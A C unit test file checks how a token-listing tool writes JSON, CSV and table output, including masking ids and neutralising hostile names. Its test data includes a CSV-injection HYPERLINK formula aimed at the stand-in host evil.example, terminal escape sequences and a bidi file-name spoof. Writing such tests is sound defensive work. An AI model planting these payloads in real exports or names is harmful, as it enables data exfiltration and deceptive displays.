/* test_listwrite.c: `wftokens list` output as JSON (API names, masked ids),
 * RFC 4180 CSV and an aligned, width-aware table. */
#include <locale.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <json-c/json.h>

#include "listwrite.h"

#define DAY ((wft_millis)86400000)
#define NOW ((wft_millis)1710000000000) /* 2024-03-09T16:00:00Z */

static wft_millis test_clock(void *ud)
{
	(void)ud;
	return NOW;
}

static struct view *sample(void)
{
	static const struct wft_token_rec recs[] = {
		{ "a411c16b-3cf7-4f03-bf11-8ca05aab898d", "ci-deploy", "sa::ci-bot",
		  WFT_ACCOUNT_SERVICE, NOW - 10 * DAY, NOW - 3 * DAY },
		{ "b5d2e7aa-0000-4f03-bf11-000000001111", "say \"hi\", then\nleave", "jo@example.com",
		  WFT_ACCOUNT_USER, NOW - 400 * DAY, 0 },
		{ "c0000000-0000-4000-8000-00000000abcd", "\xe6\xbc\xa2\xe5\xad\x97 name", "sa::x",
		  WFT_ACCOUNT_UNKNOWN, 0, NOW - 2 * 3600000 },
	};
	struct tokenset *ts = tokenset_new();
	struct wft_error err;

	for (size_t i = 0; i < sizeof recs / sizeof *recs; i++)
		assert_int_equal(tokenset_add(ts, &recs[i], &err), WFT_OK);
	struct view *v = view_new(ts, test_clock, NULL);
	assert_non_null(v);
	view_set_sort(v, VIEW_COL_NAME, false);
	return v;
}

static char *render(struct view *v, enum listwrite_format f, bool unmasked, int width)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);
	struct listwrite_opts o = { f, unmasked, width, NOW };
	struct wft_error err;

	assert_non_null(out);
	assert_int_equal(listwrite_write(out, v, &o, &err), WFT_OK);
	fclose(out);
	return buf;
}

static void json_uses_api_names_and_masks(void **state)
{
	struct view *v = sample();
	char *s = render(v, LISTWRITE_JSON, false, 0);
	(void)state;

	assert_null(strstr(s, "a411c16b"));
	struct json_object *arr = json_tokener_parse(s);
	assert_non_null(arr);
	assert_int_equal(json_object_array_length(arr), 3);
	struct json_object *o = json_object_array_get_idx(arr, 0), *f;
	assert_true(json_object_object_get_ex(o, "id", &f));
	assert_string_equal(json_object_get_string(f), "****-...-898d");
	assert_true(json_object_object_get_ex(o, "name", &f));
	assert_string_equal(json_object_get_string(f), "ci-deploy");
	assert_true(json_object_object_get_ex(o, "account", &f));
	assert_string_equal(json_object_get_string(f), "sa::ci-bot");
	assert_true(json_object_object_get_ex(o, "accountType", &f));
	assert_string_equal(json_object_get_string(f), "SERVICE_ACCOUNT");
	assert_true(json_object_object_get_ex(o, "dateGenerated", &f));
	assert_int_equal(json_object_get_int64(f), NOW - 10 * DAY);
	assert_true(json_object_object_get_ex(o, "lastUsed", &f));
	assert_int_equal(json_object_get_int64(f), NOW - 3 * DAY);
	o = json_object_array_get_idx(arr, 1);
	assert_true(json_object_object_get_ex(o, "name", &f));
	assert_string_equal(json_object_get_string(f), "say \"hi\", then\nleave");
	assert_true(json_object_object_get_ex(o, "lastUsed", &f));
	assert_null(f);
	json_object_put(arr);
	free(s);

	s = render(v, LISTWRITE_JSON, true, 0);
	assert_non_null(strstr(s, "\"a411c16b-3cf7-4f03-bf11-8ca05aab898d\""));
	free(s);
	view_free(v);

	/* An empty view is an empty array. */
	v = view_new(NULL, test_clock, NULL);
	s = render(v, LISTWRITE_JSON, false, 0);
	assert_string_equal(s, "[]\n");
	arr = json_tokener_parse(s);
	assert_non_null(arr);
	assert_int_equal(json_object_array_length(arr), 0);
	json_object_put(arr);
	free(s);
	view_free(v);
}

static void csv_quotes_per_rfc4180(void **state)
{
	struct view *v = sample();
	char *s = render(v, LISTWRITE_CSV, false, 0);
	(void)state;

	assert_string_equal(s,
		"id,name,account,accountType,dateGenerated,lastUsed\r\n"
		"****-...-898d,ci-deploy,sa::ci-bot,SERVICE_ACCOUNT,2024-02-28T16:00:00Z,2024-03-06T16:00:00Z\r\n"
		"****-...-1111,\"say \"\"hi\"\", then\nleave\",jo@example.com,USER_ACCOUNT,2023-02-03T16:00:00Z,\r\n"
		"****-...-abcd,\xe6\xbc\xa2\xe5\xad\x97 name,sa::x,,,2024-03-09T14:00:00Z\r\n");
	free(s);
	view_free(v);
}

/* A name from the server with an escape sequence, a C1 control, DEL and a
 * byte that is not UTF-8: JSON stays valid and escapes them, CSV shows them
 * as U+FFFD; no raw control byte reaches the output either way. */
static void hostile_names_are_neutralised(void **state)
{
	static const struct wft_token_rec rec = {
		"d0000000-0000-4000-8000-00000000beef", "e\x1b[31m\xc2\x9b\x7f\xff end\r", "sa::x",
		WFT_ACCOUNT_SERVICE, NOW, 0,
	};
	struct tokenset *ts = tokenset_new();
	struct wft_error err;
	struct json_object *arr, *f;
	(void)state;

	assert_int_equal(tokenset_add(ts, &rec, &err), WFT_OK);
	struct view *v = view_new(ts, test_clock, NULL);
	assert_non_null(v);
	char *s = render(v, LISTWRITE_JSON, false, 0);
	assert_null(strchr(s, '\x1b'));
	assert_null(strchr(s, '\x7f'));
	assert_null(strstr(s, "\xc2\x9b"));
	assert_null(strchr(s, '\xff'));
	assert_non_null(strstr(s, "\"e\\u001b[31m\\u009b\\u007f\\ufffd end\\u000d\""));
	arr = json_tokener_parse(s);
	assert_non_null(arr);
	assert_true(json_object_object_get_ex(json_object_array_get_idx(arr, 0), "name", &f));
	assert_string_equal(json_object_get_string(f), "e\x1b[31m\xc2\x9b\x7f\xef\xbf\xbd end\r");
	json_object_put(arr);
	free(s);
	s = render(v, LISTWRITE_CSV, false, 0);
	assert_non_null(strstr(s, ",\"e\xef\xbf\xbd[31m\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd end"
	                          "\xef\xbf\xbd\",sa::x,"));
	assert_null(strchr(s, '\x1b'));
	free(s);
	s = render(v, LISTWRITE_TABLE, false, 0);
	assert_null(strchr(s, '\x1b'));
	assert_null(strchr(s, '\x7f'));
	free(s);
	view_free(v);
}

static void table_is_aligned_and_fits(void **state)
{
	struct view *v = sample();
	char *s = render(v, LISTWRITE_TABLE, false, 0);
	(void)state;

	assert_string_equal(s,
		"Token Id      Token Name           Generated by   Type    Generated  Last used\n"
		"****-...-898d ci-deploy            sa::ci-bot     Service 2024-02-28 3d ago\n"
		"****-...-1111 say \"hi\", then?leave jo@example.com User    2023-02-03 never\n"
		"****-...-abcd \xe6\xbc\xa2\xe5\xad\x97 name            sa::x          ?                  2h ago\n");
	free(s);
	/* Narrow: names and accounts are cut with '~', every line fits. */
	s = render(v, LISTWRITE_TABLE, false, 64);
	for (char *line = strtok(s, "\n"); line; line = strtok(NULL, "\n")) {
		size_t w = 0;
		for (char *c = line; *c; c++)
			w += ((unsigned char)*c & 0xc0) != 0x80;
		/* The wide characters count twice on screen. */
		if (strstr(line, "\xe6\xbc\xa2"))
			w += 2;
		assert_true(w <= 64);
	}
	free(s);
	s = render(v, LISTWRITE_TABLE, false, 64);
	assert_non_null(strstr(s, "say \"hi\""));
	assert_null(strstr(s, "leave"));
	assert_non_null(strstr(s, "~ "));
	free(s);
	view_free(v);
}

/* A view of one token per name, all of account sa::x, in name order. */
static struct view *named(const char *const *names, size_t n)
{
	struct tokenset *ts = tokenset_new();
	struct wft_error err;
	char id[48];

	for (size_t i = 0; i < n; i++) {
		struct wft_token_rec rec = { id, names[i], "sa::x", WFT_ACCOUNT_SERVICE, NOW, 0 };
		snprintf(id, sizeof id, "e0000000-0000-4000-8000-%012zx", i + 1);
		assert_int_equal(tokenset_add(ts, &rec, &err), WFT_OK);
	}
	struct view *v = view_new(ts, test_clock, NULL);
	assert_non_null(v);
	view_set_sort(v, VIEW_COL_ID, false);
	return v;
}

/* CSV injection (OWASP): a cell that starts with =, +, -, @, a tab or a
 * carriage return (or a full-width =, +, -, @) is written with a leading '
 * so that a spreadsheet takes it as text; other cells are left as they are. */
static void csv_formulas_are_neutralised(void **state)
{
	static const char *const names[] = {
		"=HYPERLINK(\"http://evil.example/?\"&B2,\"click\")",
		"+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd", "\xef\xbc\x9d" "1+1",
		"a=b", "plain; with a semicolon", "",
	};
	static const char *const want[] = {
		"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"click\"\")\"",
		"'+1+2", "'-2+3", "'@SUM(A1:A9)", "'\tcmd", "\"'\xef\xbf\xbd" "cmd\"",
		"'\xef\xbc\x9d" "1+1", "a=b", "\"plain; with a semicolon\"", "",
	};
	size_t n = sizeof names / sizeof *names;
	struct view *v = named(names, n);
	char *s = render(v, LISTWRITE_CSV, false, 0), *line = s;
	(void)state;

	line = strstr(line, "\r\n") + 2; /* past the header */
	for (size_t i = 0; i < n; i++) {
		char *end = strstr(line, "\r\n"), *name;
		assert_non_null(end);
		*end = '\0';
		/* id,name,account,... : the name is the second field. */
		name = strchr(line, ',') + 1;
		char *acct = strstr(name, ",sa::x,");
		assert_non_null(acct);
		*acct = '\0';
		assert_string_equal(name, want[i]);
		line = end + 2;
	}
	free(s);
	view_free(v);
}

/* Columns before needle in line: every character here is one column wide. */
static long columns_before(const char *line, const char *needle)
{
	const char *end = strstr(line, needle);
	long n = 0;

	assert_non_null(end);
	for (const char *c = line; c < end; c++)
		n += ((unsigned char)*c & 0xc0) != 0x80;
	return n;
}

/* Bidirectional controls (U+202A..U+202E, U+2066..U+2069) could reorder a
 * line where they are shown: U+FFFD in the table and CSV, as the console
 * shows them; escaped in JSON, which keeps the name as it is. */
static void bidi_controls_are_neutralised(void **state)
{
	static const char *const names[] = {
		"inv\xe2\x80\xaegpj.exe", "a\xe2\x80\xaa" "b\xe2\x80\xac" "c\xe2\x81\xa6" "d\xe2\x81\xa9" "e",
	};
	static const char *const raw[] = {
		"\xe2\x80\xaa", "\xe2\x80\xab", "\xe2\x80\xac", "\xe2\x80\xad", "\xe2\x80\xae",
		"\xe2\x81\xa6", "\xe2\x81\xa7", "\xe2\x81\xa8", "\xe2\x81\xa9",
	};
	struct view *v = named(names, 2);
	struct json_object *arr, *f;
	char *s;
	(void)state;

	for (int fmt = LISTWRITE_TABLE; fmt <= LISTWRITE_CSV; fmt++) {
		s = render(v, (enum listwrite_format)fmt, false, 0);
		for (size_t i = 0; i < sizeof raw / sizeof *raw; i++)
			assert_null(strstr(s, raw[i]));
		if (fmt == LISTWRITE_JSON) {
			assert_non_null(strstr(s, "\"inv\\u202egpj.exe\""));
			assert_non_null(strstr(s, "\"a\\u202ab\\u202cc\\u2066d\\u2069e\""));
			arr = json_tokener_parse(s);
			assert_non_null(arr);
			assert_true(json_object_object_get_ex(json_object_array_get_idx(arr, 0), "name", &f));
			assert_string_equal(json_object_get_string(f), names[0]);
			json_object_put(arr);
		} else {
			assert_non_null(strstr(s, "inv\xef\xbf\xbdgpj.exe"));
			assert_non_null(strstr(s, "a\xef\xbf\xbd" "b\xef\xbf\xbd" "c\xef\xbf\xbd" "d\xef\xbf\xbd" "e"));
		}
		free(s);
	}
	/* The table counts each as one column: the rows stay aligned. */
	s = render(v, LISTWRITE_TABLE, false, 0);
	char *l1 = strchr(s, '\n') + 1, *l2 = strchr(l1, '\n') + 1;
	assert_int_equal(columns_before(l1, "sa::x"), columns_before(l2, "sa::x"));
	assert_int_equal(columns_before(s, "Generated by"), columns_before(l1, "sa::x"));
	free(s);
	view_free(v);
}

static void formats(void **state)
{
	(void)state;
	assert_int_equal(listwrite_format_parse("table"), LISTWRITE_TABLE);
	assert_int_equal(listwrite_format_parse("json"), LISTWRITE_JSON);
	assert_int_equal(listwrite_format_parse("csv"), LISTWRITE_CSV);
	assert_int_equal(listwrite_format_parse("yaml"), -1);
	assert_int_equal(listwrite_format_parse(NULL), -1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(json_uses_api_names_and_masks),
		cmocka_unit_test(csv_quotes_per_rfc4180),
		cmocka_unit_test(table_is_aligned_and_fits),
		cmocka_unit_test(hostile_names_are_neutralised),
		cmocka_unit_test(csv_formulas_are_neutralised),
		cmocka_unit_test(bidi_controls_are_neutralised),
		cmocka_unit_test(formats),
	};
	setlocale(LC_ALL, "C.UTF-8");
	return cmocka_run_group_tests(tests, NULL, NULL);
}
